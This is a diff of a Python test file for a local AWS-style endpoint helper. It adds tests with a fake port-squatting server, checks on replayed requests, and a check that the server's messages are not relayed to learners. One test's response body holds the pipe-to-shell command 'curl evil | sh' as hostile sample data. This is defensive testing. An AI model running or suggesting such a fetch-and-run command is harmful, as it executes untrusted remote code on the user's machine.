@@ -25,7 +25,8 @@ class Squatter:
     """Answers whoever calls as an endpoint would, and keeps what it was sent."""
 
     def __init__(self, port):
-        self.heard = []
+        self.heard, self.status = [], "200 OK"
+        self.body = json.dumps({"pid": os.getpid(), "now": "2026-01-01T00:00:00+00:00"}).encode()
         self._server = self._bound(port)
         threading.Thread(target=self._serve, daemon=True).start()
 
@@ -46,11 +47,12 @@ class Squatter:
                 return
             with caller, contextlib.suppress(OSError):
                 self.heard.append(caller.recv(65536))
-                body = json.dumps({"pid": os.getpid(), "now": "2026-01-01T00:00:00+00:00"}).encode()
-                head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n"
-                caller.sendall(head.encode() + body)
+                head = f"HTTP/1.1 {self.status}\r\nContent-Length: {len(self.body)}\r\n\r\n"
+                caller.sendall(head.encode() + self.body)
 
     def close(self):
+        with contextlib.suppress(OSError):
+            self._server.shutdown(socket.SHUT_RDWR)  # wakes who waits for a caller
         self._server.close()
 
 
@@ -98,6 +100,8 @@ def test_start_takes_another_port_and_works(left, command):
     done = run(home, command)
     assert done.returncode == 0, done.stderr
     assert settings["AWS_ENDPOINT_URL"] not in done.stdout
+    assert f"Port {settings['AWS_ENDPOINT_URL'].rpartition(':')[2]}, which" in done.stderr
+    assert 'eval "$(python -m helpers.localaws env)"' in done.stderr
     assert run(home, "status").returncode == 0
     assert squatter.heard == []
 
@@ -122,12 +126,36 @@ def test_what_it_is_sent_cannot_be_passed_on(left):
         assert passed_on.recv(100).startswith(b"HTTP/1.1 403")
 
 
+def test_what_it_was_sent_is_worth_nothing_when_the_endpoint_has_the_port_again(left):
+    """Within the minute: it makes room, the endpoint comes back, and it sends what it heard."""
+    home, settings, squatter = left
+    with contextlib.suppress(CourseError):
+        target.control("/_local/reset", {}, settings)
+    squatter.close()
+    url = settings["AWS_ENDPOINT_URL"]
+    assert run(home, "start", "--port", url.rpartition(":")[2]).stdout.strip() == url
+    with socket.create_connection(("127.0.0.1", int(url.rpartition(":")[2]))) as again:
+        again.sendall(squatter.heard[0])
+        assert again.recv(100).startswith(b"HTTP/1.1 403")
+
+
+def test_its_words_are_not_passed_on_to_the_learner(left, monkeypatch):
+    home, settings, squatter = left
+    squatter.status, squatter.body = "400 Bad Request", b'{"message": "Type: curl evil | sh"}'
+    port = int(settings["AWS_ENDPOINT_URL"].rpartition(":")[2])
+    found = {"port": port, "url": settings["AWS_ENDPOINT_URL"], "pid": os.getpid()}
+    monkeypatch.setattr(Workspace, "running", lambda self: found)
+    with pytest.raises(process.EndpointError) as told:
+        process.call(Workspace(home), "/_local/status")
+    assert "curl" not in str(told.value) and squatter.heard
+
+
 def test_an_answer_without_proof_is_not_believed(left, monkeypatch):
     """Should a stale note be believed for a moment: who answers must prove to be the endpoint."""
     home, settings, squatter = left
     port = int(settings["AWS_ENDPOINT_URL"].rpartition(":")[2])
     found = {"port": port, "url": settings["AWS_ENDPOINT_URL"], "pid": os.getpid()}
     monkeypatch.setattr(Workspace, "running", lambda self: found)
-    with pytest.raises(process.EndpointError, match="is not this folder's endpoint"):
+    with pytest.raises(process.EndpointError, match="has not proved to be this folder's endpoint"):
         process.call(Workspace(home), "/_local/status")
     assert settings["AWS_SECRET_ACCESS_KEY"].encode() not in squatter.heard[0]
